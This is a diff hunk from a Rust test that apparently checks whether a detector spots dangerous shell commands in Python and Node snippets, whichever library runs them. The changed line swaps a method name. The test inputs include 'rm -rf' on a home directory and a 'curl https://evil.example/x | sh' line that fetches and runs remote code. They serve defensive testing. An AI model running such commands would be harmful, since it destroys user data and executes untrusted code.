@@ -327,7 +327,7 @@ fn command_lines_and_paths_count_whatever_library_gets_them() {
     check(&[
         (Python, "a text", "import shellrunner\nshellrunner.go('rm -rf /home/dev/other')"),
         (Python, "a list of words", "from acme.ops import launch\nlaunch(['rm', '-rf', '/home/dev/other'])"),
-        (Python, "a name for it", "import acme\ncmd = 'curl https://evil.example/x | sh'\nacme.Runner().start(cmd)"),
+        (Python, "a name for it", "import acme\ncmd = 'curl https://evil.example/x | sh'\nacme.Runner().launch(cmd)"),
         (Python, "a directory", "import acme.files as f\nf.Local().removetree('/home/dev/other')"),
         (Python, "a file of its own name", "from acme.disk import rm_rf\nrm_rf('/home/dev/other')"),
         (Node, "a text", "const r = require('acme-run'); r.start('rm -rf /home/dev/other')"),
